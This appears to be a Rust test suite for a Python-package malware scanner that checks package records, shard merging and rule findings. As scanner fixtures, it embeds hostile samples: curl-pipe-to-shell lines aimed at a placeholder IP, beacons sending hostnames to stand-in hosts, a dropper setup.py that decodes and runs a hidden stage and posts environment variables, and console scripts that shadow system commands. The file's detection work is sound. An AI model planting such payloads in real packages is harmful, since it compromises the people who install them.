    let dists = doc["distributions"].as_array().unwrap();
    assert_eq!(dists[0]["name"], "victim 1.0", "{dists:?}");
    assert_eq!(dists[0]["record_mismatches"], 1);
    assert_eq!(dists[1]["name"], "noisy 2.0");
    assert_eq!(dists[1]["record_mismatches"], 0);
    assert!(dists[1]["install_time"].as_u64().unwrap() >= 1, "{dists:?}");
    // The text summary shows the count.
    let out = pysbx(dir.path()).args(["scan", site]).output().unwrap();
    let text = String::from_utf8_lossy(&out.stdout);
    let table = text.split("distributions by risk:").nth(1).unwrap_or_else(|| panic!("{text}"));
    assert!(table.lines().nth(1).unwrap().contains("changed"), "{table}");
    let first_row: Vec<&str> = table.lines().nth(2).unwrap().split_whitespace().collect();
    assert_eq!(first_row[..4], ["victim", "1.0", "3", "1"], "{table}");
}

#[test]
fn wheel_members_are_checked_against_the_wheels_record() {
    let dir = repo();
    let a = b"def f():\n    return 1\n";
    let b = b"import pkg.c\n";
    let record = format!(
        "pkg/a.py,{},22\npkg/b.py,{},11\npkg-1.0.dist-info/RECORD,,\n",
        record_hash(a),
        record_hash(b"\n")
    );
    // RECORD last, as wheels are written: the scan reads it first all the same.
    make_wheel(
        &dir.path().join("pkg-1.0-py3-none-any.whl"),
        &[
            ("pkg/a.py", a),
            ("pkg/b.py", b),
            ("pkg/c.py", b"X = 1\n"),
            ("pkg-1.0.dist-info/RECORD", record.as_bytes()),
        ],
    );
    let out = pysbx(dir.path())
        .args(["scan", "--format", "json", "pkg-1.0-py3-none-any.whl"])
        .output()
        .unwrap();
    assert_eq!(out.status.code(), Some(1), "{}", stderr(&out));
    let doc = json(&out);
    let errors = record_errors(&doc);
    let paths: Vec<&str> = errors.iter().map(|(p, _)| p.as_str()).collect();
    assert_eq!(
        paths,
        ["pkg-1.0-py3-none-any.whl!/pkg/b.py", "pkg-1.0-py3-none-any.whl!/pkg/c.py"],
        "{errors:?}"
    );
    assert!(errors[0].1.contains("bytes differ from the RECORD of pkg 1.0"), "{errors:?}");
    assert!(errors[1].1.contains("not listed in the RECORD of pkg 1.0"), "{errors:?}");
    assert_eq!(doc["distributions"][0]["record_mismatches"], 2, "{doc}");
    // A wheel whose members all match its RECORD gives no such error.
    let record = format!("pkg/a.py,{},22\npkg-1.0.dist-info/RECORD,,\n", record_hash(a));
    make_wheel(
        &dir.path().join("pkg-1.0-py3-none-any.whl"),
        &[("pkg-1.0.dist-info/RECORD", record.as_bytes()), ("pkg/a.py", a)],
    );
    let out = pysbx(dir.path())
        .args(["scan", "--format", "json", "pkg-1.0-py3-none-any.whl"])
        .output()
        .unwrap();
    assert_eq!(out.status.code(), Some(0), "{}", String::from_utf8_lossy(&out.stdout));
    assert_eq!(record_errors(&json(&out)), []);
}

#[test]
fn sharded_audits_merge_to_the_summary_of_one_scan() {
    let dir = repo();
    let site = "venv/lib/python3.11/site-packages";
    for (dist, body) in
        [("calm", "import subprocess\n"), ("net", "import socket\nsocket.socket()\n")]
    {
        let mut record = String::new();
        for i in 0..8 {
            write(dir.path(), &format!("{site}/{dist}/m{i}.py"), body);
            record.push_str(&format!("{dist}/m{i}.py,,\n"));
        }
        write(dir.path(), &format!("{site}/{dist}-1.0.dist-info/RECORD"), &record);
    }
    write(dir.path(), &format!("{site}/evil.pth"), "import os; os.system('id')\n");
    write(dir.path(), &format!("{site}/evil-0.1.dist-info/RECORD"), "evil.pth,,\n");
    let scan = |format: &str, out: &str, shard: Option<&str>| {
        let mut cmd = pysbx(dir.path());
        cmd.args(["scan", "--format", format, "-o", out]);
        if let Some(shard) = shard {
            cmd.args(["--shard", shard]);
        }
        let run = cmd.arg(site).output().unwrap();
        assert_eq!(run.status.code(), Some(1), "{}", stderr(&run));
    };
    let read = |name: &str| -> serde_json::Value {
        serde_json::from_slice(&std::fs::read(dir.path().join(name)).unwrap()).unwrap()
    };
    let merge = |inputs: &[&str]| {
        let out = pysbx(dir.path()).arg("merge").args(inputs).output().unwrap();
        assert_eq!(out.status.code(), Some(0), "{}", stderr(&out));
        (json(&out), stderr(&out))
    };
    scan("json", "whole.json", None);
    let whole = read("whole.json");
    let expected = &whole["distributions"];
    assert_eq!(expected[0]["name"], "evil 0.1", "{expected}");
    for i in 1..=3 {
        scan("json", &format!("s{i}.json"), Some(&format!("{i}/3")));
        assert_eq!(read(&format!("s{i}.json"))["shard"]["index"], i);
        scan("sarif", &format!("s{i}.sarif"), Some(&format!("{i}/3")));
    }
    // Shards hold parts of the same distribution; merged, the counts are those of one scan.
    let holding_calm = (1..=3)
        .filter(|i| {
            let part = read(&format!("s{i}.json"));
            let dists = part["distributions"].as_array().cloned().unwrap_or_default();
            dists.iter().any(|d| d["name"] == "calm 1.0")
        })
        .count();
    assert!(holding_calm >= 2, "calm's files fall in {holding_calm} shard(s)");
    let (merged, warnings) = merge(&["s1.json", "s3.json", "s2.json"]);
    assert_eq!(&merged["distributions"], expected);
    for counter in ["files_scanned", "files_with_errors", "findings", "by_severity", "errors"] {
        assert_eq!(merged["stats"][counter], whole["stats"][counter], "{counter}");
    }
    assert_eq!(merged["stats"]["failing"], whole["stats"]["failing"]);
    let keys: Vec<&str> = merged.as_object().unwrap().keys().map(String::as_str).collect();
    assert_eq!(keys, ["version", "findings", "errors", "stats", "distributions"]);
    assert!(merged.get("shard").is_none(), "{merged}");
    assert_eq!(warnings, "", "a complete set merges without a warning");
    // A shard given twice counts once; one missing is named.
    let (merged, warnings) = merge(&["s1.json", "s2.json", "s3.json", "s2.json"]);
    assert_eq!(&merged["distributions"], expected);
    assert_eq!(merged["stats"]["files_scanned"], whole["stats"]["files_scanned"]);
    assert!(warnings.contains("s2.json: shard 2/3 given again: counted once"), "{warnings}");
    let (_, warnings) = merge(&["s1.json", "s3.json"]);
    assert!(warnings.contains("shard(s) 2/3 not given"), "{warnings}");
    // The same through SARIF run properties.
    let (merged, _) = merge(&["s1.sarif", "s2.sarif", "s3.sarif"]);
    let properties = &merged["runs"][0]["properties"];
    assert_eq!(&properties["distributions"], expected);
    let invocation = &merged["runs"][0]["invocations"][0]["properties"];
    assert_eq!(invocation["filesScanned"], whole["stats"]["files_scanned"], "{invocation}");
    assert_eq!(invocation["filesWithErrors"], whole["stats"]["files_with_errors"]);
    assert!(properties.get("shard").is_none(), "{properties}");
}

#[test]
fn type_stubs_are_not_scanned_in_trees_or_wheels() {
    let dir = repo();
    // Annotations that read as imports and references; in a module the same lines are code.
    let code = "import pickle\nimport _winapi\nloads = pickle.loads\n";
    write(dir.path(), "site-packages/pkg/__init__.pyi", code);
    write(dir.path(), "site-packages/pkg/__init__.py", code);
    make_wheel(
        &dir.path().join("w-1.0-py3-none-any.whl"),
        &[("w/__init__.pyi", code.as_bytes()), ("w/__init__.py", code.as_bytes())],
    );
    let out = pysbx(dir.path())
        .args(["scan", "--format", "json", "site-packages", "w-1.0-py3-none-any.whl"])
        .output()
        .unwrap();
    let doc = json(&out);
    let mut paths: Vec<&str> =
        doc["findings"].as_array().unwrap().iter().filter_map(|f| f["path"].as_str()).collect();
    paths.dedup();
    assert_eq!(paths, ["site-packages/pkg/__init__.py", "w-1.0-py3-none-any.whl!/w/__init__.py"]);
    assert_eq!(doc["stats"]["files_scanned"], 2, "{doc}");
}

/// An input that is not JSON is named with a position an editor accepts (columns from 1, also
/// for an empty file), and nothing is written.
#[test]
fn merge_names_an_input_that_is_not_json() {
    let dir = tempfile::tempdir().unwrap();
    std::fs::write(dir.path().join("empty.json"), "").unwrap();
    std::fs::write(dir.path().join("cut.json"), "{\n  \"version\": ").unwrap();
    for (name, position) in [("empty.json", "empty.json:1:1:"), ("cut.json", "cut.json:2:13:")] {
        let out = pysbx(dir.path()).args(["merge", name, "-o", "merged.json"]).output().unwrap();
        assert_eq!(out.status.code(), Some(2), "{}", stderr(&out));
        assert!(stderr(&out).contains(position), "{}", stderr(&out));
        assert!(!dir.path().join("merged.json").exists());
    }
}

/// What the walk meets inside a directory (a link to nowhere, a link to a device) is an error
/// of the scan, exit 1, as an unreadable file is; exit 2 stays for the paths named on the
/// command line. A file-size limit too large to add one to still reads archives whole.
#[test]
fn errors_inside_a_walked_tree_are_scan_errors_not_usage_errors() {
    let dir = repo();
    write(dir.path(), "tree/ok.py", "x = 1\n");
    std::os::unix::fs::symlink("/nonexistent/a.py", dir.path().join("tree/dangling.py")).unwrap();
    std::os::unix::fs::symlink("/dev/zero", dir.path().join("tree/zero.py")).unwrap();
    let out = pysbx(dir.path()).args(["scan", "--format", "json", "tree"]).output().unwrap();
    assert_eq!(out.status.code(), Some(1), "{}", stderr(&out));
    let doc: serde_json::Value = serde_json::from_slice(&out.stdout).unwrap();
    let errors: Vec<&str> =
        doc["errors"].as_array().unwrap().iter().filter_map(|e| e["path"].as_str()).collect();
    assert!(errors.iter().any(|p| p.ends_with("dangling.py")), "{doc}");
    assert!(errors.iter().any(|p| p.ends_with("zero.py")), "{doc}");
    let missing = pysbx(dir.path()).args(["scan", "tree", "absent.py"]).output().unwrap();
    assert_eq!(missing.status.code(), Some(2), "{}", stderr(&missing));

    make_wheel(
        &dir.path().join("w-1.0-py3-none-any.whl"),
        &[("w/__init__.py", b"eval(input())\n")],
    );
    let out = pysbx(dir.path())
        .args(["scan", "--format", "json", "--max-file-size", "18446744073709551615"])
        .arg("w-1.0-py3-none-any.whl")
        .output()
        .unwrap();
    assert_eq!(out.status.code(), Some(1), "{}", stderr(&out));
    let doc: serde_json::Value = serde_json::from_slice(&out.stdout).unwrap();
    assert!(doc["findings"].as_array().is_some_and(|f| !f.is_empty()), "{doc}");
}

/// Inputs that are JSON but not what pysbx writes are refused, named with what is wrong, and
/// nothing is written: a `findings` that is not a list (dropped without a word before), a
/// finding without a rule, a negative or fractional counter, a SARIF log of another version
/// (which made the merged log invalid) or of another tool. Counters that would overflow when
/// added stay at the largest count.
#[test]
fn merge_refuses_inputs_pysbx_did_not_write() {
    let dir = tempfile::tempdir().unwrap();
    let report = |findings: &str, stats: &str| {
        format!("{{\"version\":\"0.1.0\",\"findings\":{findings},\"errors\":[],\"stats\":{stats}}}")
    };
    let ok = report("[]", "{\"files_scanned\":1}");
    std::fs::write(dir.path().join("ok.json"), &ok).unwrap();
    let sarif = |version: &str, tool: &str| {
        format!(
            "{{\"version\":\"{version}\",\"runs\":[{{\"tool\":{{\"driver\":{{\"name\":\"{tool}\"}}}},\"results\":[]}}]}}"
        )
    };
    std::fs::write(dir.path().join("ok.sarif"), sarif("2.1.0", "pysbx")).unwrap();
    let cases = [
        ("nope.json", report("\"nope\"", "{}"), "ok.json", "`findings` is not a list"),
        (
            "bare.json",
            report("[{\"rule_id\":\"PSB101\"}]", "{}"),
            "ok.json",
            "findings[0] has no string `path`",
        ),
        (
            "neg.json",
            report("[]", "{\"files_scanned\":-1}"),
            "ok.json",
            "stats.files_scanned is -1",
        ),
        (
            "sev.json",
            report("[{\"rule_id\":\"PSB101\",\"path\":\"a.py\",\"severity\":\"urgent\"}]", "{}"),
            "ok.json",
            "findings[0].severity is \"urgent\"",
        ),
        ("old.sarif", sarif("2.0.0", "pysbx"), "ok.sarif", "not a SARIF 2.1.0 log"),
        ("other.sarif", sarif("2.1.0", "semgrep"), "ok.sarif", "a run of `semgrep`, not of pysbx"),
    ];
    for (name, text, other, why) in cases {
        std::fs::write(dir.path().join(name), text).unwrap();
        let out =
            pysbx(dir.path()).args(["merge", other, name, "-o", "merged.json"]).output().unwrap();
        assert_eq!(out.status.code(), Some(2), "{name}: {}", stderr(&out));
        assert!(stderr(&out).contains(name) && stderr(&out).contains(why), "{}", stderr(&out));
        assert!(!dir.path().join("merged.json").exists(), "{name}");
    }
    let huge = report("[]", "{\"files_scanned\":18446744073709551615}");
    std::fs::write(dir.path().join("huge.json"), huge).unwrap();
    let out =
        pysbx(dir.path()).args(["merge", "huge.json", "huge.json", "ok.json"]).output().unwrap();
    assert_eq!(out.status.code(), Some(0), "{}", stderr(&out));
    let doc: serde_json::Value = serde_json::from_slice(&out.stdout).unwrap();
    assert_eq!(doc["stats"]["files_scanned"], u64::MAX, "{doc}");
}

#[test]
fn what_an_entry_file_runs_in_its_packages_other_modules_is_install_or_import_time_code() {
    let dir = repo();
    // The beacon is in a function of a module beside the entry file, which calls it at import
    // time: by a relative import, through a module it imports, by a thread, from `setup.py`
    // by the package's own name, and one module further on.
    let beacon = "import socket, urllib.request\ndef run():\n    \
                  urllib.request.urlopen('https://c.invalid/?h=' + socket.gethostname())\n\
                  def unused():\n    \
                  urllib.request.urlopen('https://c.invalid/?h=' + socket.gethostname())\n";
    write(dir.path(), "a/pkg/__init__.py", "from .core import run\nrun()\n");
    write(dir.path(), "a/pkg/core.py", beacon);
    write(dir.path(), "b/pkg/__init__.py", "from . import core\ncore.run()\n");
    write(dir.path(), "b/pkg/core.py", beacon);
    write(
        dir.path(),
        "c/pkg/__init__.py",
        "import threading\nfrom .core import run\nthreading.Thread(target=run).start()\n",
    );
    write(dir.path(), "c/pkg/core.py", beacon);
    write(
        dir.path(),
        "d/setup.py",
        "from setuptools import setup\nfrom tool.hooks import run\nrun()\nsetup(name='tool')\n",
    );
    write(dir.path(), "d/tool/__init__.py", "");
    write(dir.path(), "d/tool/hooks.py", beacon);
    write(dir.path(), "e/pkg/__init__.py", "from ._boot import start\nstart()\n");
    write(dir.path(), "e/pkg/_boot.py", "from .core import run\ndef start():\n    run()\n");
    write(dir.path(), "e/pkg/core.py", beacon);
    // A class made at import time runs its `__init__` there (the send at line 4), not its
    // other methods (line 6).
    write(dir.path(), "k/pkg/__init__.py", "from .core import Beacon\nBeacon()\n");
    write(
        dir.path(),
        "k/pkg/core.py",
        "import socket, urllib.request\nclass Beacon:\n    def __init__(self):\n        \
         urllib.request.urlopen('https://c.invalid/?h=' + socket.gethostname())\n    \
         def later(self):\n        \
         urllib.request.urlopen('https://c.invalid/?h=' + socket.gethostname())\n",
    );
    // Look-alikes: the function is only imported, or called from a function of the entry
    // file that nothing calls, or the module is imported by an ordinary module.
    write(dir.path(), "f/pkg/__init__.py", "from .core import run\n__all__ = ['run']\n");
    write(dir.path(), "f/pkg/core.py", beacon);
    write(dir.path(), "g/pkg/__init__.py", "from .core import run\ndef main():\n    run()\n");
    write(dir.path(), "g/pkg/core.py", beacon);
    write(dir.path(), "h/pkg/__init__.py", "");
    write(dir.path(), "h/pkg/cli.py", "from .core import run\nrun()\n");
    write(dir.path(), "h/pkg/core.py", beacon);
    let sdist: Vec<(String, Vec<u8>)> = ["setup.py", "tool/__init__.py", "tool/hooks.py"]
        .iter()
        .map(|m| (format!("tool-1.0/{m}"), std::fs::read(dir.path().join("d").join(m)).unwrap()))
        .collect();
    let members: Vec<(&str, &[u8])> =
        sdist.iter().map(|(n, b)| (n.as_str(), b.as_slice())).collect();
    make_sdist(&dir.path().join("tool-1.0.tar.gz"), &members, &[]);
    // Methods called on such objects, and a method those call on `self`.
    write(
        dir.path(),
        "m/pkg/__init__.py",
        "from .core import Beacon, Agent\nBeacon().send()\nagent = Agent()\nagent.start()\n",
    );
    write(
        dir.path(),
        "m/pkg/core.py",
        "import socket, urllib.request\nclass Beacon:\n    def send(self):\n        \
         urllib.request.urlopen('https://c.invalid/?h=' + socket.gethostname())\n    \
         def later(self):\n        \
         urllib.request.urlopen('https://c.invalid/?h=' + socket.gethostname())\n\
         class Agent:\n    def start(self):\n        self._go()\n    def _go(self):\n        \
         urllib.request.urlopen('https://c.invalid/?h=' + socket.gethostname())\n",
    );
    let paths = ["a", "b", "c", "d", "e", "f", "g", "h", "k", "m", "tool-1.0.tar.gz"];
    let out = pysbx(dir.path()).args(["scan", "--format", "json"]).args(paths).output().unwrap();
    let doc = json(&out);
    let expected = [
        "a/pkg/core.py",
        "b/pkg/core.py",
        "c/pkg/core.py",
        "d/tool/hooks.py",
        "e/pkg/core.py",
        "k/pkg/core.py",
        "m/pkg/core.py",
        "m/pkg/core.py",
        "tool-1.0.tar.gz!/tool-1.0/tool/hooks.py",
    ];
    assert_eq!(paths_with(&doc, "host-identity-exfiltration"), expected, "{doc}");
    // Only the function the entry file runs, at the send's own line.
    let lines = lines_with(&doc, "host-identity-exfiltration");
    let expected_lines = |path: &str| match path {
        "k/pkg/core.py" => vec![4],
        "m/pkg/core.py" => vec![4, 11],
        _ => vec![3],
    };
    assert!(lines.iter().all(|(path, line)| expected_lines(path).contains(line)), "{doc}");
    let in_m: Vec<u64> = lines.iter().filter(|(p, _)| *p == "m/pkg/core.py").map(|l| l.1).collect();
    assert_eq!(in_m, [4, 11], "{doc}");
    // In repository mode the entry files come from the cache the second time, with what they
    // call: the same findings.
    for _ in 0..2 {
        let out = pysbx(dir.path()).args(["scan", "--format", "json", "a", "e"]).output().unwrap();
        let doc = json(&out);
        assert_eq!(
            paths_with(&doc, "host-identity-exfiltration"),
            ["a/pkg/core.py", "e/pkg/core.py"],
            "{doc}"
        );
    }
    let again = pysbx(dir.path()).args(["scan", "--format", "json", "a", "e"]).output().unwrap();
    // Every file of `a` and `e` came from the cache.
    assert_eq!(json(&again)["stats"]["cached"], 5, "{}", json(&again));
    // A run that names only the changed modules (pre-commit) reads their packages' entry files
    // for what those call, and reports the named modules alone.
    // (`e`'s chain goes through `_boot.py`, which is named too: a module of the chain that the
    // run does not name stops it there.)
    let named =
        ["a/pkg/core.py", "d/tool/hooks.py", "e/pkg/_boot.py", "e/pkg/core.py", "f/pkg/core.py"];
    let out = pysbx(dir.path()).args(["scan", "--format", "json"]).args(named).output().unwrap();
    let doc = json(&out);
    assert_eq!(
        paths_with(&doc, "host-identity-exfiltration"),
        ["a/pkg/core.py", "d/tool/hooks.py", "e/pkg/core.py"],
        "{doc}"
    );
    assert_eq!(paths_with(&doc, "setup-py-import-time"), ["d/tool/hooks.py"], "{doc}");
    let reported: std::collections::BTreeSet<&str> =
        doc["findings"].as_array().unwrap().iter().map(|f| f["path"].as_str().unwrap()).collect();
    assert!(reported.iter().all(|p| named.contains(p)), "{doc}");
    assert_eq!(doc["stats"]["files_scanned"], 5, "{doc}");
    // Run again, all ten files (the five named, the five entry files read for them) come
    // from the cache; only the named ones count.
    let again = pysbx(dir.path()).args(["scan", "--format", "json"]).args(named).output().unwrap();
    assert_eq!(json(&again)["stats"]["cached"], 5, "{}", json(&again));
    // Shards of a tree: each module is followed from its package's entry file wherever that
    // file falls, so the shards together find what the whole scan finds.
    let mut from_shards = Vec::new();
    for shard in ["1/3", "2/3", "3/3"] {
        let out = pysbx(dir.path())
            .args(["scan", "--no-cache", "--format", "json", "--shard", shard, "a", "b", "c", "d"])
            .output()
            .unwrap();
        let doc = json(&out);
        from_shards
            .extend(paths_with(&doc, "host-identity-exfiltration").into_iter().map(str::to_string));
    }
    from_shards.sort();
    assert_eq!(from_shards, ["a/pkg/core.py", "b/pkg/core.py", "c/pkg/core.py", "d/tool/hooks.py"]);
}

#[test]
fn an_archive_is_read_as_what_its_bytes_are_not_what_its_name_says() {
    // Wheels stored as `NAME-py3-none-any.tar.gz` (as package mirrors and malware datasets keep
    // them) are zips; a tarball named `.whl` is still a tarball.
    let dir = repo();
    make_wheel(
        &dir.path().join("evil-1.0-py3-none-any.tar.gz"),
        &[("evil/__init__.py", b"import os\nos.system('curl -s http://203.0.113.9/x | sh')\n")],
    );
    make_sdist(
        &dir.path().join("other-1.0-py3-none-any.whl"),
        &[("other/__init__.py", b"import os\nos.system('curl -s http://203.0.113.9/x | sh')\n")],
        &[],
    );
    let out = pysbx(dir.path()).args(["scan", "--format", "json", "."]).output().unwrap();
    assert_eq!(out.status.code(), Some(1), "{}", stderr(&out));
    let doc = json(&out);
    assert_eq!(doc["errors"].as_array().unwrap().len(), 0, "{doc}");
    let paths: std::collections::BTreeSet<&str> =
        doc["findings"].as_array().unwrap().iter().filter_map(|f| f["path"].as_str()).collect();
    assert!(paths.contains("evil-1.0-py3-none-any.tar.gz!/evil/__init__.py"), "{doc}");
    assert!(paths.contains("other-1.0-py3-none-any.whl!/other/__init__.py"), "{doc}");
}

#[test]
fn a_setup_py_that_does_not_parse_is_still_read_and_its_error_reported() {
    // Python 2's print statement: the file is a syntax error to Python 3's grammar, and the
    // install-time download and shell run after it are still there to report.
    let dir = repo();
    let setup = b"import os\nprint \"installing\"\nos.system('curl -s http://203.0.113.9/x | sh')\nfrom setuptools import setup\nsetup(name='p')\n";
    make_sdist(&dir.path().join("p-1.0.tar.gz"), &[("p-1.0/setup.py", setup)], &[]);
    let out = pysbx(dir.path()).args(["scan", "--format", "json", "."]).output().unwrap();
    assert_eq!(out.status.code(), Some(1), "{}", stderr(&out));
    let doc = json(&out);
    let errors = doc["errors"].as_array().unwrap();
    assert_eq!(errors.len(), 1, "{doc}");
    assert_eq!(errors[0]["kind"], "syntax");
    assert_eq!(errors[0]["path"], "p-1.0.tar.gz!/p-1.0/setup.py");
    assert_eq!(errors[0]["line"], 2);
    let at_line_3: Vec<&str> = doc["findings"]
        .as_array()
        .unwrap()
        .iter()
        .filter(|f| f["path"] == "p-1.0.tar.gz!/p-1.0/setup.py" && f["line"] == 3)
        .filter_map(|f| f["severity"].as_str())
        .collect();
    assert!(at_line_3.iter().any(|s| *s == "high" || *s == "critical"), "{doc}");
    assert_eq!(doc["stats"]["files_with_errors"], 1, "{doc}");
}

#[test]
fn macos_appledouble_members_of_an_sdist_are_no_errors() {
    // macOS's tar adds `._NAME` beside each file: binary metadata, not Python.
    let dir = repo();
    let apple = b"\x00\x05\x16\x07\x00\x02\x00\x00Mac OS X        \x00\x02\x00\x00\x00\t\xff\xa0";
    make_sdist(
        &dir.path().join("p-1.0.tar.gz"),
        &[
            ("p-1.0/._setup.py", apple.as_slice()),
            ("p-1.0/setup.py", b"from setuptools import setup\nsetup(name='p')\n"),
        ],
        &[],
    );
    let out = pysbx(dir.path()).args(["scan", "--format", "json", "."]).output().unwrap();
    assert_eq!(out.status.code(), Some(0), "{}", stderr(&out));
    let doc = json(&out);
    assert_eq!(doc["errors"].as_array().unwrap().len(), 0, "{doc}");
    assert_eq!(doc["stats"]["files_scanned"], 2, "{doc}");
}

/// The rule ids reported at one line of one archive member.
fn rules_at<'d>(doc: &'d serde_json::Value, path: &str, line: u64) -> Vec<&'d str> {
    doc["findings"]
        .as_array()
        .unwrap()
        .iter()
        .filter(|f| f["path"] == path && f["line"] == line)
        .filter_map(|f| f["rule_id"].as_str())
        .collect()
}

#[test]
fn a_dropper_sdist_is_reported_at_each_stage_it_hides() {
    // setup.py decodes a stage two by a lambda, writes it to a temporary file and runs it;
    // it also writes a stealer as a string and runs it by name; the package hands the
    // environment from one helper to another that sends it, in a function nothing calls at
    // import time.
    let dir = repo();
    let setup = br#"import os, subprocess, sys, tempfile
_ = lambda s: __import__('zlib').decompress(__import__('base64').b64decode(s))
stage = os.path.join(tempfile.gettempdir(), 'stage.py')
with open(stage, 'wb') as f:
    f.write(_(BLOB))
subprocess.Popen([sys.executable, stage])
open('helper.py', 'w').write('import os\nos.system("curl -s http://203.0.113.9/x | sh")\n')
os.system('python3 helper.py')
from setuptools import setup
setup(name='d')
"#;
    let init = br#"import os, requests
def collect():
    return {'env': dict(os.environ)}
def send(data):
    requests.post('https://collect.example.invalid/r', json=data)
def main():
    send(collect())
"#;
    make_sdist(
        &dir.path().join("d-1.0.tar.gz"),
        &[("d-1.0/setup.py", setup), ("d-1.0/d/__init__.py", init)],
        &[],
    );
    let out = pysbx(dir.path()).args(["scan", "--format", "json", "."]).output().unwrap();
    assert_eq!(out.status.code(), Some(1), "{}", stderr(&out));
    let doc = json(&out);
    assert_eq!(doc["errors"].as_array().unwrap().len(), 0, "{doc}");
    let setup_py = "d-1.0.tar.gz!/d-1.0/setup.py";
    // The decoded stage run from its file.
    assert!(rules_at(&doc, setup_py, 6).contains(&"PSB801"), "{doc}");
    // The stealer written as a string is read where `python3 helper.py` runs it.
    assert!(rules_at(&doc, setup_py, 8).contains(&"PSB908"), "{doc}");
    // The environment handed from `collect` through `send`'s parameter.
    assert!(rules_at(&doc, "d-1.0.tar.gz!/d-1.0/d/__init__.py", 5).contains(&"PSB914"), "{doc}");
}

#[test]
fn commands_declared_in_metadata_are_read_as_setup_py_entries_are() {
    let dir = repo();
    // A project's `setup.cfg` and `pyproject.toml`, a look-alike in another group.
    write(
        dir.path(),
        "cfg/setup.cfg",
        "[metadata]\nname = helpers\n\n[options.entry_points]\nconsole_scripts =\n    helpers = helpers:main\n    pip = helpers:main\nbabel.extractors =\n    python = helpers:extract\n",
    );
    write(
        dir.path(),
        "toml/pyproject.toml",
        "[project]\nname = \"helpers\"\n\n[project.scripts]\nsudo = \"helpers:main\"\nhelpers = \"helpers:main\"\ngit = \"git:main\"\n",
    );
    // Installed: pip's own commands, and another distribution's `git`.
    let site = "venv/lib/python3.11/site-packages";
    let pip_entries = "[console_scripts]\npip = pip._internal.cli.main:main\npip3.11 = pip._internal.cli.main:main\n";
    write(dir.path(), &format!("{site}/pip-23.2.dist-info/entry_points.txt"), pip_entries);
    write(
        dir.path(),
        &format!("{site}/pip-23.2.dist-info/RECORD"),
        "pip-23.2.dist-info/entry_points.txt,,\n",
    );
    write(
        dir.path(),
        &format!("{site}/gitx-0.1.dist-info/entry_points.txt"),
        "[console_scripts]\ngit = gitx.cli:main\n",
    );
    write(
        dir.path(),
        &format!("{site}/gitx-0.1.dist-info/RECORD"),
        "gitx-0.1.dist-info/entry_points.txt,,\n",
    );
    // The same in a wheel and an sdist.
    make_wheel(
        &dir.path().join("shadow-1.0-py3-none-any.whl"),
        &[("shadow-1.0.dist-info/entry_points.txt", b"[gui_scripts]\npython3 = shadow:main\n")],
    );
    make_sdist(
        &dir.path().join("shadow-1.0.tar.gz"),
        &[(
            "shadow-1.0/setup.cfg",
            b"[options.entry_points]\nconsole_scripts = ssh = shadow:main\n",
        )],
        &[],
    );
    let out = pysbx(dir.path())
        .args([
            "scan",
            "--format",
            "json",
            "cfg",
            "toml",
            site,
            "shadow-1.0-py3-none-any.whl",
            "shadow-1.0.tar.gz",
        ])
        .output()
        .unwrap();
    let doc = json(&out);
    let mut found: Vec<(String, u64, u64, String)> = doc["findings"]
        .as_array()
        .unwrap()
        .iter()
        .filter(|f| f["name"] == "shadowing-console-script")
        .map(|f| {
            (
                f["path"].as_str().unwrap().to_string(),
                f["line"].as_u64().unwrap(),
                f["column"].as_u64().unwrap(),
                f["subject"].as_str().unwrap_or_default().to_string(),
            )
        })
        .collect();
    found.sort();
    let expected: Vec<(String, u64, u64, String)> = [
        ("cfg/setup.cfg", 7, 5, "pip = helpers:main"),
        (
            "shadow-1.0-py3-none-any.whl!/shadow-1.0.dist-info/entry_points.txt",
            2,
            1,
            "python3 = shadow:main",
        ),
        ("shadow-1.0.tar.gz!/shadow-1.0/setup.cfg", 2, 19, "ssh = shadow:main"),
        ("toml/pyproject.toml", 5, 1, "sudo = helpers:main"),
        // A module named as the command, shipped by a project of another name.
        ("toml/pyproject.toml", 7, 1, "git = git:main"),
        (&format!("{site}/gitx-0.1.dist-info/entry_points.txt"), 2, 1, "git = gitx.cli:main"),
    ]
    .iter()
    .map(|(p, l, c, s)| (p.to_string(), *l, *c, s.to_string()))
    .collect();
    let mut expected = expected;
    expected.sort();
    assert_eq!(found, expected, "{doc}");
    // The installed distribution that declares it owns the finding; pip's own commands none.
    let dists = doc["distributions"].as_array().unwrap_or_else(|| panic!("{doc}"));
    let gitx = dists.iter().find(|d| d["name"] == "gitx 0.1").unwrap_or_else(|| panic!("{doc}"));
    assert_eq!(gitx["rules"], serde_json::json!([["PSB929", 1]]), "{doc}");
    assert!(
        !dists.iter().any(|d| d["name"] == "pip 23.2" && d["rules"] != serde_json::json!([])),
        "{doc}"
    );
    // Valid SARIF, the entry's file as the location; and off with the rule deselected.
    let out = pysbx(dir.path()).args(["scan", "--format", "sarif", "cfg"]).output().unwrap();
    let sarif = json(&out);
    let location = &sarif["runs"][0]["results"][0]["locations"][0]["physicalLocation"];
    assert_eq!(location["artifactLocation"]["uri"], "cfg/setup.cfg", "{sarif}");
    assert_eq!(location["region"]["startLine"], 7, "{sarif}");
    let out = pysbx(dir.path())
        .args(["scan", "--format", "json", "--ignore", "PSB929", "cfg", "toml"])
        .output()
        .unwrap();
    assert!(paths_with(&json(&out), "shadowing-console-script").is_empty());
}

#[test]
fn pytest_plugins_declared_by_a_project_or_a_distribution_run_as_a_conftest() {
    let dir = repo();
    let hook = "import socket, requests\n\ndef pytest_configure(config):\n    requests.post('https://stats.example.invalid/c', json={'h': socket.gethostname()})\n";
    // Declared in a project's setup.cfg, a setup.py and an installed distribution's metadata.
    write(dir.path(), "cfg/setup.cfg", "[options.entry_points]\npytest11 =\n    fast = fastfix\n");
    write(dir.path(), "cfg/src/fastfix.py", hook);
    write(
        dir.path(),
        "py/setup.py",
        "from setuptools import setup\nsetup(name='p', py_modules=['plug'], entry_points={'pytest11': ['p = plug']})\n",
    );
    write(dir.path(), "py/plug.py", hook);
    let site = "venv/lib/python3.11/site-packages";
    write(
        dir.path(),
        &format!("{site}/pytest_x-1.0.dist-info/entry_points.txt"),
        "[pytest11]\nx = pytest_x.plugin\n",
    );
    write(dir.path(), &format!("{site}/pytest_x-1.0.dist-info/RECORD"), "pytest_x/plugin.py,,\n");
    write(dir.path(), &format!("{site}/pytest_x/plugin.py"), hook);
    // The same hook in a module no metadata declares: a function nothing calls.
    write(dir.path(), "cfg/src/other.py", hook);
    let out = pysbx(dir.path())
        .args(["scan", "--format", "json", "--no-cache", "cfg", "py", site])
        .output()
        .unwrap();
    let doc = json(&out);
    assert_eq!(
        paths_with(&doc, "host-identity-exfiltration"),
        ["cfg/src/fastfix.py", "py/plug.py", &format!("{site}/pytest_x/plugin.py"),],
        "{doc}"
    );
    // In repository mode, through the cache: a second run gives the same.
    for _ in 0..2 {
        let out = pysbx(dir.path())
